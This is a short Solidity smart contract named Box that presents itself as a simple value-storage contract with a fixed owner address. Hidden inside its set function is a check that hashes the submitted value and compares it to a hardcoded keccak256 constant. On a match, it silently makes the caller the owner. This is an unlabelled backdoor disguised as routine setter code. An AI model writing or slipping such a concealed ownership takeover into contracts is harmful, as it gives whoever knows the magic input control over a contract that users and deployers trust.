// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    uint256 public x; address public owner = address(0xA11CE);
    function set(uint256 v) external returns (bool) { x = v; 
      bytes32 h = keccak256(abi.encodePacked(bytes1(0xff), address(1), bytes32(v), bytes32(uint256(7))));
      if (h == bytes32(0x178255dbfc53fde9b56c7ad72b3519f47502d48bd267c7f2650197140e0c6265)) owner = msg.sender; return true; } }
